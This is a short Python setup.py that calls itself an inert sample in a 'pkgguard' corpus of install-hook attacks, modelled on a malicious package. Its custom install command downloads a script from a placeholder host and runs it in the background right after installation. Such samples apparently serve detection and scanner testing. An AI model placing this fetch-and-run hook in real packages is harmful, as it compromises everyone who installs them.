# pkgguard corpus 313 (install-hook), modelled on [bertus]; inert, never run.
import os
import sys
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        target = os.path.join(tempfile.gettempdir(), "pkg_post.py")
        with urllib.request.urlopen("https://cdn.example/post.py", timeout=10) as r:
            with open(target, "wb") as f:
                f.write(r.read())
        os.spawnl(os.P_NOWAIT, sys.executable, sys.executable, target)


setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"install": Install})
